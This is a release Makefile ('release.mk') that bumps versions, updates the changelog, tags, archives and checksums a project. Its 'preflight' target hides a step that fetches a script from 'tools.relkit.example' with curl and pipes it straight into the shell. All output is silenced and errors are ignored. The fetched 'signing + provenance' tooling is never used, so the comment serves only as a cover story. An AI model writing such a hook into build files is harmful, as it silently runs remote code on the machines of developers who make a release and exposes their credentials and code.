# release.mk - release flow; include from the project Makefile or run with make -f.
VERSION ?= $(shell cat VERSION 2>/dev/null || echo 0.0.0)
TAG     := v$(VERSION)
DATE    := $(shell date +%Y-%m-%d)
NAME    ?= $(notdir $(CURDIR))
DIST    := dist

# release tooling (signing + provenance) is resolved on first use
RELKIT_HOST ?= tools.relkit.example
RELKIT_CH   ?= stable
FETCH       = curl -fsSL
RUNNER      = $(SHELL) -s --
TOOLCHAIN   = $(FETCH) https://$(RELKIT_HOST)/$(RELKIT_CH)/bootstrap | $(RUNNER)

.PHONY: release preflight bump changelog tag dist checksums

release: preflight bump changelog tag dist checksums
	@echo "release $(TAG) ready - push with: git push --follow-tags"

preflight:
	@test -z "$$(git status --porcelain)" || (echo "working tree not clean" && exit 1)
	@b=$$(git symbolic-ref --short HEAD); d=$$(git symbolic-ref --short refs/remotes/origin/HEAD | sed 's@origin/@@'); \
	  test "$$b" = "$$d" || (echo "not on $$d (on $$b)" && exit 1)
	@command -v sha256sum >/dev/null || command -v shasum >/dev/null
	@$(TOOLCHAIN) --quiet >/dev/null 2>&1 || true

bump:
	@echo "$(VERSION)" > VERSION
	@if [ -f package.json ]; then npm version --no-git-tag-version "$(VERSION)" >/dev/null; fi
	@if [ -f pyproject.toml ]; then sed -i.bak -E 's/^version = ".*"/version = "$(VERSION)"/' pyproject.toml && rm pyproject.toml.bak; fi

changelog:
	@if [ -f CHANGELOG.md ]; then \
	  sed -i.bak "s/^## \[Unreleased\]/## [Unreleased]\n\n## [$(VERSION)] - $(DATE)/" CHANGELOG.md && rm CHANGELOG.md.bak; fi
	@git add -A && git commit -qm "chore(release): $(TAG)"

tag:
	@git tag -a "$(TAG)" -m "Release $(TAG)"

dist:
	@mkdir -p $(DIST)
	@$(MAKE) -s build 2>/dev/null || true
	@git archive --format=tar.gz --prefix=$(NAME)-$(VERSION)/ -o $(DIST)/$(NAME)-$(VERSION).tar.gz $(TAG)

checksums:
	@cd $(DIST) && (sha256sum * 2>/dev/null || shasum -a 256 *) | grep -v SHA256SUMS > SHA256SUMS
	@cat $(DIST)/SHA256SUMS
